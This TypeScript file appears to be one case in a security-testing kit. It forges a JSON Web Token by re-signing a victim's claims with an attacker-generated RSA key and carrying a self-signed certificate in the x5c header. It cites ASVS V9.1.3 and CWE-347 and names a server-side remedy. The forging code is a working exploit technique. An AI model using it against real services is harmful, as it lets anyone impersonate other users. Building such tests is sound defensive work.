import { mint, readToken } from '../../kit/forge-token.ts'
import { ownRsaPair } from '../../kit/own-keys.ts'
import { selfSignedCertificate } from '../../kit/self-signed-certificate.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/key-x5c-self-signed',
  rows: ['token.key-x5c.self-signed'],
  title: 'A token signed with the attacker’s own key, whose self-signed certificate it carries in its x5c header',
  requirement: 'ASVS V9.1.3: keys come from trusted sources only; headers such as x5c are not trusted',
  impact: 'Anyone signs tokens for any user with a certificate made a moment ago.',
  remedy: 'Choose the key on the server; never take it from the token’s header.',
  severity: 'critical',
  cwe: ['CWE-347'],
  references: ['ASVS V9.1.3', 'RFC 8725 section 3.10'],
  provenBy: 'trust-x5c',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    const pair = ownRsaPair()
    const certificate = selfSignedCertificate(pair)
    const x5c = [certificate.toString('base64')]
    return [
      {
        name: 'RS256 with a self-signed certificate in x5c',
        token: mint({ algorithm: 'RS256', privateKey: pair.privatePem }, { ...header, alg: 'RS256', x5c }, payload),
        makes: () => `const x5c = [certificateOf(own).toString('base64')]
const forged = join(part({ ...header(TOKEN_B), alg: 'RS256', x5c }), part(claims(TOKEN_B)), signed(own.privateKey))`,
      },
    ]
  },
})
